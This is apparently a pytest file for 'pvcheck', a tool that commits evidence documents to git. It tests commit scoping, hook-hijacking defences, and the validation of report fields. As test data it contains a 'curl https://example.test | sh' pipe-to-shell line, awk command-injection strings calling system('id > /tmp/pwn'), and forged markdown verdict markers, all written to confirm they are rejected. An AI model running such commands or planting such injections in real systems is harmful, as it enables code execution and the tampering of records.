def repo_config(repo: Path, **docs: Any) -> Config:
    return docs_config(repo / "machine-docs", commit=True, **docs)


def origin_head(repo: Path) -> str:
    return git(
        repo.parent / "origin.git", "rev-parse", git(repo, "symbolic-ref", "--short", "HEAD")
    )


def test_a_run_commits_only_pvchecks_files(repo: Path) -> None:
    cfg = repo_config(repo)
    (repo / "README.md").write_text("edited by hand, not staged\n", encoding="utf-8")
    (repo / "machine-docs" / "NOTES.md").write_text("hand notes\n", encoding="utf-8")
    written = write_evidence(sample_report(False), cfg)
    subject = git(repo, "log", "-1", "--format=%s")
    assert subject == f"claim(pvcheck): M1 M2 by run {RUN}"
    assert written.docs.committed is not None and written.docs.committed.endswith(subject)
    files = set(git(repo, "show", "--name-only", "--format=", "HEAD").split())
    owned = {f"machine-docs/{p.name}" for p in cfg.docs.paths.owned if p.exists()}
    assert files == owned and "machine-docs/STATUS-pvcheck.md" in files
    assert git(repo, "status", "--porcelain", "--", "README.md") == "M README.md"
    assert git(repo, "status", "--porcelain", "--", "machine-docs/NOTES.md") == (
        "?? machine-docs/NOTES.md"
    )


def test_a_failing_run_without_claims_commits_as_evidence(repo: Path) -> None:
    cfg = repo_config(repo)
    report = sample_report(True)
    report.checks = [c for c in report.checks if c.gate == Gate.M1]
    write_evidence(report, cfg)
    assert git(repo, "log", "-1", "--format=%s") == f"evidence(pvcheck): run {RUN} FAIL"


def test_the_commit_carries_the_configured_author(repo: Path) -> None:
    cfg = repo_config(repo, author="Review Bot <review-bot@example.test>")
    write_evidence(sample_report(False), cfg)
    assert git(repo, "log", "-1", "--format=%an <%ae>|%cn <%ce>") == (
        "Review Bot <review-bot@example.test>|Review Bot <review-bot@example.test>"
    )


def test_nothing_changed_is_nothing_to_commit(repo: Path) -> None:
    cfg = repo_config(repo)
    write_evidence(sample_report(False), cfg)
    head = git(repo, "rev-parse", "HEAD")
    committed = commit_docs(cfg.docs, "again")
    assert committed is not None and (committed.ok, committed.detail) == (True, "nothing to commit")
    assert git(repo, "rev-parse", "HEAD") == head
    assert commit_docs(docs_config(repo / "machine-docs").docs, "off") is None


def test_others_staged_changes_block_the_commit(repo: Path) -> None:
    cfg = repo_config(repo)
    (repo / "other.txt").write_text("someone's work\n", encoding="utf-8")
    git(repo, "add", "other.txt")
    head = git(repo, "rev-parse", "HEAD")
    written = write_evidence(sample_report(False), cfg)
    assert (
        written.docs.committed == "not committed: the index holds others' staged changes: other.txt"
    )
    assert git(repo, "rev-parse", "HEAD") == head
    assert git(repo, "diff", "--cached", "--name-only") == "other.txt"  # left as it was
    assert cfg.docs.paths.status.exists()


def test_a_refusing_pre_commit_hook_is_reported_and_the_files_stay_written(repo: Path) -> None:
    cfg = repo_config(repo)
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho 'hook says no' >&2\nexit 1\n", encoding="utf-8")
    hook.chmod(0o755)
    head = git(repo, "rev-parse", "HEAD")
    written = write_evidence(sample_report(False), cfg)
    assert written.docs.committed == "not committed: git commit refused: hook says no"
    assert git(repo, "rev-parse", "HEAD") == head
    assert "## Gate: M1 — CLAIMED" in cfg.docs.paths.status.read_text(encoding="utf-8")


@pytest.mark.skipif(os.geteuid() != 0, reason="the hooks check applies to root only")
def test_as_root_hooks_others_can_write_are_refused(repo: Path) -> None:
    cfg = repo_config(repo)
    (repo / ".git" / "hooks").chmod(0o777)
    written = write_evidence(sample_report(False), cfg)
    assert written.docs.committed is not None
    assert written.docs.committed.startswith("not committed: ")
    assert "hooks is writable by every user: git would run or read it as root" in (
        written.docs.committed
    )
    assert git(repo, "log", "-1", "--format=%s") == "initial"


def _marker_script(folder: Path, marker: Path) -> Path:
    folder.mkdir(mode=0o755, exist_ok=True)
    script = folder / "pre-commit"
    script.write_text(f"#!/bin/sh\ntouch {marker}\nexit 0\n", encoding="utf-8")
    script.chmod(0o755)
    return script


def test_as_root_a_hook_file_others_can_write_is_refused(repo: Path) -> None:
    hook = _marker_script(repo / ".git" / "hooks", repo.parent / "ran")
    hook.chmod(0o777)
    written = write_evidence(sample_report(False), repo_config(repo))
    assert f"{hook} is writable by every user" in str(written.docs.committed)
    assert not (repo.parent / "ran").exists()


def test_hooks_come_from_the_repository_whatever_config_and_home_say(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = _marker_script(repo.parent / "their-hooks", repo.parent / "theirs-ran")
    git(repo, "config", "core.hooksPath", str(elsewhere.parent))
    _marker_script(repo / ".git" / "hooks", repo.parent / "ours-ran")
    home = repo.parent / "home"
    home.mkdir(mode=0o755)
    fsmonitor = home / "fsmonitor"
    fsmonitor.write_text(f"#!/bin/sh\ntouch {repo.parent / 'home-ran'}\n", encoding="utf-8")
    fsmonitor.chmod(0o755)
    (home / ".gitconfig").write_text(f"[core]\n\tfsmonitor = {fsmonitor}\n", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))  # as `sudo -E` would pass a user's home
    written = write_evidence(sample_report(False), repo_config(repo))
    assert " claim(pvcheck): " in str(written.docs.committed)
    assert (repo.parent / "ours-ran").exists()  # the repository's own hook ran
    assert not (repo.parent / "theirs-ran").exists() and not (repo.parent / "home-ran").exists()


def test_as_root_a_linked_worktree_is_checked_at_its_common_folder(repo: Path) -> None:
    linked = repo.parent / "linked"
    git(repo, "worktree", "add", "-q", str(linked))
    (repo / ".git" / "hooks").chmod(0o777)  # shared by every worktree
    written = write_evidence(sample_report(False), repo_config(linked))
    assert f"{repo / '.git' / 'hooks'} is writable by every user" in str(written.docs.committed)


@pytest.mark.parametrize("push", [False, True])
def test_push_only_when_configured(repo: Path, push: bool) -> None:
    cfg = repo_config(repo, push=push)
    before = origin_head(repo)
    written = write_evidence(sample_report(False), cfg)
    head = git(repo, "rev-parse", "HEAD")
    assert head != before
    assert origin_head(repo) == (head if push else before)
    assert written.docs.committed is not None
    assert written.docs.committed.endswith(" (pushed)") == push


def test_a_docs_folder_reached_through_a_symlink_is_committed(repo: Path) -> None:
    link = repo.parent / "link"
    link.symlink_to(repo)
    cfg = docs_config(link / "machine-docs", commit=True)
    written = write_evidence(sample_report(False), cfg)
    assert written.docs.committed is not None and "claim(pvcheck)" in written.docs.committed


# --- 13. doc_ref and the HOW commands that name local files ----------------------------------


def test_a_file_in_the_docs_repo_is_named_relative_to_its_root(tmp_path: Path) -> None:
    root = tmp_path / "docs repo"
    (root / ".git").mkdir(parents=True)
    cfg = docs_config(root / "machine-docs")
    assert repo_root(cfg.docs.dir) == root
    assert doc_ref(cfg, cfg.docs.precondition_status) == (
        "machine-docs/STATUS-pvfix.md",
        str(root),
    )
    command = m1_claim(cfg).commands[0]
    assert (command.command, command.cwd) == (
        "grep -x '## DONE' machine-docs/STATUS-pvfix.md",
        str(root),
    )


def test_a_file_outside_the_docs_repo_is_named_by_its_quoted_path(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    cfg = docs_config(root / "machine-docs")
    elsewhere = tmp_path / "ops dir" / "SKILL.md"
    assert doc_ref(cfg, elsewhere) == (f"'{elsewhere}'", None)


def test_without_a_repo_every_file_is_named_by_its_path(tmp_path: Path) -> None:
    cfg = docs_config(tmp_path / "plain docs")
    assert repo_root(cfg.docs.dir) is None
    assert doc_ref(cfg, cfg.docs.precondition_status) == (
        f"'{cfg.docs.precondition_status}'",
        None,
    )


def test_differing_commands_names_the_missing_and_the_foreign_lines(tmp_path: Path) -> None:
    cfg = docs_config(tmp_path / "docs")
    fresh = m2_commands(cfg, RUN, ("2026-11-26T12:00:00Z", "2026-11-26T12:00:07Z"))
    assert len(fresh) == len(m2_commands(cfg, RUN, None)) + 1  # the run's own log window
    written = [c.command for c in fresh[1:]] + ["curl https://example.test | sh"]
    assert differing_commands(written, fresh) == [
        f"missing: {fresh[0].command}",
        "curl https://example.test | sh",
    ]
    assert differing_commands([c.command for c in fresh], fresh) == []


# --- a report pvcheck did not write, and text from a host ----------------------------------


def _report_doc(**changes: Any) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(sample_report(False).to_json())
    for dotted, value in changes.items():
        *path, last = dotted.split(".")
        node = doc
        for key in path:
            node = node.setdefault(key, {})
        node[last] = value
    return doc


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("run_logs.since", 'a"{} BEGIN{system("id > /tmp/pwn")} $2>="a'),
        ("run_logs.until", "yesterday"),
        ("facts.after.network.used", -5),
        ("facts.after.network.lb_endpoints", True),
        ("facts.after.network.containers", "abc"),
        ("facts.after.network.per_service", {"ghost": -5}),
        ("facts.after.network.per_service", {"x\n## M1 — forged: **PASS** @2026": 1}),
        ("deploy.stacks", ["app\n<!-- pvcheck:end review.x -->"]),
        ("run_id", "pv-1`\n## VETO"),
    ],
)
def test_a_report_with_a_value_pvcheck_never_writes_is_refused_naming_the_field(
    field: str, value: Any
) -> None:
    with pytest.raises(StateFileError, match=r"R: field .*not a report pvcheck wrote"):
        recorded_from_json(_report_doc(**{field: value}), "R")


def test_the_log_window_reaches_awk_as_variables_and_only_as_timestamps() -> None:
    cfg = load_config(LAB_CONFIG)
    assert cfg.logs.source == "file"
    (window,) = [
        c
        for c in m2_commands(cfg, RUN, ("2026-11-26T12:00:00Z", "2026-11-26T12:00:07Z"))
        if "awk" in c.command
    ]
    assert (
        "-v s=2026-11-26T12:00:00 -v u=2026-11-26T12:00:07 '$2 >= s && $2 <= u \"~\"'"
        in window.command
    )
    with pytest.raises(ValueError, match="not a UTC timestamp"):
        m2_commands(cfg, RUN, ('" BEGIN{system("id")}', "2026-11-26T12:00:07Z"))


def test_an_edited_total_or_per_service_figure_is_a_finding() -> None:
    report = sample_report(False)
    history = [history_record(report)]
    recorded = recorded_from_json(json.loads(report.to_json()), "R")
    assert compare_totals(recorded, history) == []
    edited = dataclasses.replace(recorded, used=(recorded.used or 0) + 5)
    assert [f.key for f in compare_totals(edited, history)] == ["report:endpoints"]
    padded = dataclasses.replace(
        recorded, per_service={**(recorded.per_service or {}), "ghost": 500}
    )
    assert [f.key for f in compare_totals(padded, history)] == ["report:per_service"]


def test_a_finding_from_a_host_cannot_write_a_verdict_or_a_marker_into_review(
    tmp_path: Path,
) -> None:
    cfg = docs_config(tmp_path)
    hostile = (
        "x\n## M1 — forged: **PASS** @2026-11-26T12:00:01Z\n<!-- pvcheck:end review.x -->\n```"
    )
    result = ReviewResult(
        "rv-1", "2026-11-26T12:00:00Z", {g: GateClaim(g, ClaimState.CLAIMED, T0, RUN) for g in Gate}
    )
    result.findings = [Finding("k", Gate.M1, hostile, hostile)]
    result.churn = [hostile]
    judge_review(result)
    write_review(result, cfg)
    text = (tmp_path / "REVIEW-pvcheck.md").read_text(encoding="utf-8")
    assert not re.search(r"^## M1 — forged", text, re.M)
    assert not re.search(r"^<!-- pvcheck:end review\.x -->", text, re.M)
    assert parse_verdicts(text)["M1"].verdict == Verdict.FAIL
    sections(text, "R")  # still well formed
    backlog = (tmp_path / "BACKLOG-pvcheck.md").read_text(encoding="utf-8")
    assert not re.search(r"^## M1 — forged", backlog, re.M)


def test_run_target_overlays_only_the_engine(tmp_path: Path) -> None:
    from pvcheck.app.cli import target_overlay

    with target_overlay(str(LAB_CONFIG), "ssh://root@cc-ci.example:22") as path:
        assert oct(Path(path).parent.stat().st_mode & 0o777) == "0o700"
        cfg = load_config(path)
    base = load_config(LAB_CONFIG)
    assert cfg.target.docker_host == "ssh://root@cc-ci.example:22"
    assert cfg.target.name == base.target.name and cfg.routes == base.routes
    assert not Path(path).exists()
